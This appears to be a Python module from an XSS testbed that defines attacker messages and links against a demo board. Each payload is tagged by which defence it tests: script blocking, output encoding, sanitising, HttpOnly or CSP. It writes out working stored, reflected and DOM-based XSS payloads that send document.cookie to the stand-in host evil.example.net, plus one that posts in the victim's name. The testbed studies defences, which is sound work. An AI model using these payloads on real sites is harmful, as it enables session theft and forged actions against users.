"""What the attacker writes on the board and into links, and where its loot goes."""

from __future__ import annotations

from urllib.parse import quote

from testbed import NO_DEFENCE, Defence, Layer

BOARD, EVIL = "board.example.org", "evil.example.net"
DEFENCES = {
    NO_DEFENCE: Defence("no defence", None, "stored_scripts_run"),
    "blocking": Defence(
        "removing <script>", Layer.APPLICATION, "blocked_words_are_written_otherwise"
    ),
    "encoding": Defence("encoding on output", Layer.APPLICATION, "encoding_fits_its_place_alone"),
    "sanitising": Defence("sanitising", Layer.APPLICATION, "sanitising_keeps_what_is_harmless"),
    "http-only": Defence("HttpOnly", Layer.BROWSER, "http_only_hides_the_cookie_alone"),
    "policy": Defence(
        "Content-Security-Policy", Layer.BROWSER, "policies_stop_scripts_in_the_browser"
    ),
    "all": Defence("all together", Layer.SEVERAL, "all_together_stop_all"),
}
DEED = "I love mallory"
"""What a script writes in the victim's name."""

BOLD = "<b>Nice board</b>"
"""An honest visitor's message, with an element."""


def loot(defence: str, attack: str) -> str:
    """JavaScript that asks the attacker's host for a picture whose address has the cookie."""
    return f"new Image().src='http://{EVIL}/{defence}/{attack}?'+document.cookie"


def _picture(script: str) -> str:
    return f'<img src=x onerror="{script}">'


def messages(defence: str) -> list[tuple[str, str, str]]:
    """What the attacker writes: name of the attack, text, link."""
    deed = (
        f"fetch('/{defence}/messages',"
        f"{{method:'POST',body:new URLSearchParams({{text:'{DEED}'}})}})"
    )
    return [
        ("honest", BOLD, ""),
        ("stored", f"<script>{loot(defence, 'stored')}</script>", ""),
        ("picture", _picture(loot(defence, "picture")), ""),
        ("link", "A great offer", f"javascript:{loot(defence, 'link')};void 0"),
        ("deed", _picture(deed), ""),
    ]


def addresses(defence: str) -> dict[str, str]:
    """Attack → the address of the link that the victim follows."""
    site = f"http://{BOARD}/{defence}"
    return {
        "reflected": f"{site}/search?word={quote(_picture(loot(defence, 'reflected')))}",
        "dom": f"{site}/hello#{quote(_picture(loot(defence, 'dom')))}",
    }


ATTACKS = {
    "stored": "stored <script> that sends the cookie",
    "picture": "stored event handler",
    "link": "stored link with javascript:",
    "reflected": "script in a link, reflected",
    "dom": "script in a link, behind #",
    "deed": "stored script that acts for the visitor",
}
"""Attack → in words; all but the last are after the cookie."""
